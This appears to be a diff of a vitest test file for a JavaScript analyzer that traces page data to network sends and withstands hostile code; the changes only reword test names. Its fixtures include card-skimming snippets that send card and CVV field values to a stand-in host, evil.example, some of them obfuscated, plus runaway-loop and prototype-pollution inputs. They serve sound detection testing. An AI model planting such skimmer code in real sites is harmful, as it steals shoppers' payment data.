@@ -1,4 +1,4 @@
-// Guards that a look at a program finds what it does to a page, through the usual ways of hiding it, and ends on hostile code.
+// Analysis of a program finds its effects on a page, through the usual obfuscation, and terminates on hostile code.
 import { describe, expect, it } from 'vitest'
 import { parseProgram } from '#program/index.ts'
 import { factsOf, flows, look } from './look.ts'
@@ -37,7 +37,7 @@ describe('what leaves a page', () => {
     expect(flows(text)).toContain(flow)
   })
 
-  it('is seen where a listener keeps what another function sends', () => {
+  it('is seen if a listener stores data that another function sends', () => {
     const text = `
       var kept = {};
       document.querySelectorAll('input[name*="card"]').forEach(function (field) { field.addEventListener('change', function (e) { kept[field.name] = e.target.value }) });
@@ -45,7 +45,7 @@ describe('what leaves a page', () => {
     expect(flows(text)).toContain('card > beacon evil.example')
   })
 
-  it('is seen where a function runs again and again before there is anything to send', () => {
+  it('is seen if a function runs repeatedly before there is anything to send', () => {
     const text = `
       var kept = null;
       function gather() { kept += document.querySelector('#cc-number').value }
@@ -54,7 +54,7 @@ describe('what leaves a page', () => {
     expect(flows(text)).toContain('card > image evil.example')
   })
 
-  it('is seen behind a question that jQuery answers, and behind a mark that may have been set', () => {
+  it('is seen behind a condition that jQuery answers, and behind a flag that may be set', () => {
     const asked = `$("input").each(function () { $(this).change(function () {
       if (!/card/.test($(this).attr("name"))) { return }
       var bad = 0; if (!$("#cvv").val()) { bad = 1 }
@@ -62,13 +62,13 @@ describe('what leaves a page', () => {
     expect(flows(asked).some((flow) => flow.endsWith('> ajax evil.example') && flow !== ' > ajax evil.example')).toBe(true)
   })
 
-  it('is not mixed with what another call of the same function was handed', () => {
+  it('is not mixed with the arguments of another call of the same function', () => {
     const text = `function same(v) { return v } function f() { same(document.querySelector("#card").value) } function g(q) { fetch("https://a.example/", { body: same(q) }) }
       function h(q) { fetch("https://b.example/", { body: same(q) }) } function i(q) { fetch("https://c.example/", { body: same(q) }) }`
     expect(flows(text)).toEqual([' > fetch a.example', ' > fetch b.example', ' > fetch c.example'])
   })
 
-  it('is not made up: a form that is checked, a counter that is sent', () => {
+  it('is not made up: a validated form, a counter that is sent', () => {
     expect(
       flows(
         'document.querySelector("#card").addEventListener("input", (e) => { e.target.classList.toggle("bad", !/^\\d+$/.test(e.target.value)) })',
@@ -78,7 +78,7 @@ describe('what leaves a page', () => {
   })
 })
 
-describe('what is hidden', () => {
+describe('hidden text', () => {
   const hidden = 'https://evil.example/g'
   const sendTo = (address: string) => `fetch(${address}, { method: "POST", body: document.querySelector("#cvv").value })`
   it.each([
@@ -105,19 +105,19 @@ describe('what is hidden', () => {
     ],
     ['a constructor of functions', `[]["filter"]["constructor"](${JSON.stringify(sendTo(JSON.stringify(hidden)))})()`],
     ['a timer with text', `setTimeout(${JSON.stringify(sendTo(JSON.stringify(hidden)))}, 10)`],
-  ])('by %s is read', (_name, text) => {
+  ])('by %s is decoded', (_name, text) => {
     expect(flows(text)).toContain('card > fetch evil.example')
   })
 
-  it('is told with the text that the program makes and runs', () => {
+  it('is reported with the text that the program builds and runs', () => {
     const { findings } = look('eval(atob("YWxlcnQoMSk="))')
     expect(findings.texts).toEqual(['alert(1)'])
     expect(findings.facts).toContainEqual(expect.objectContaining({ kind: 'runs-text', how: 'eval', decoded: true }))
   })
 })
 
-describe('what else a program does', () => {
-  it('asks before it goes on', () => {
+describe('other effects of a program', () => {
+  it('list its conditions', () => {
     expect(factsOf('if (/checkout|onepage/.test(location.href)) start()', 'gate')[0]).toMatchObject({
       on: 'address',
       test: expect.stringContaining('checkout|onepage'),
@@ -141,7 +141,7 @@ describe('what else a program does', () => {
     })
   })
 
-  it('is looked at in functions that nobody calls, and on both sides of a question', () => {
+  it('include functions that nobody calls, and both branches of a condition', () => {
     expect(flows('function never() { if (isMobile) fetch("https://a.example/", {}); else fetch("https://b.example/", {}) }')).toEqual([
       ' > fetch a.example',
       ' > fetch b.example',
@@ -164,7 +164,7 @@ describe('hostile code', () => {
     ['a timer that sets itself', 'function f() { setTimeout("f()", 1); setTimeout(f, 1) } f()'],
     ['calls that branch without end', 'function f(a) { if (a.x) { f(a.y); f(a.z) } f(a.p); f(a.q) } window.onclick = f'],
     ['sorting by contradiction', '[3, 1, 2].sort(function () { return Math.random() - 0.5 })'],
-  ])('%s is given up and told', (_name, text) => {
+  ])('%s is given up and reported', (_name, text) => {
     expect(() => look(text, { stepsMax: 200_000, sweepStepsMax: 50_000 })).not.toThrow()
   })
 
@@ -172,12 +172,12 @@ describe('hostile code', () => {
     expect(parseProgram(`${'['.repeat(100_000)}${']'.repeat(100_000)}`)).toBeNull()
   })
 
-  it('says when it could not look at everything', () => {
+  it('reports if it could not analyze everything', () => {
     expect(look('for (;;) {}', { stepsMax: 1_000 }).ended).toBe(false)
     expect(look('a = 1').ended).toBe(true)
   })
 
-  it('is gone through once for each function, however often they call each other', () => {
+  it('is analyzed once per function, however often they call each other', () => {
     const names = Array.from({ length: 60 }, (_, index) => `f${index}`)
     const text = names
       .map(
@@ -193,7 +193,7 @@ describe('hostile code', () => {
     expect(steps).toBeLessThan(100_000)
   })
 
-  it('reaches nothing of ours', () => {
+  it("accesses none of the analyzer's objects", () => {
     look(
       '({}).__proto__.polluted = 1; Object.prototype.polluted = 1; [].constructor.constructor("return this")().polluted = 1; JSON.parse(\'{"__proto__":{"polluted":1}}\')',
     )
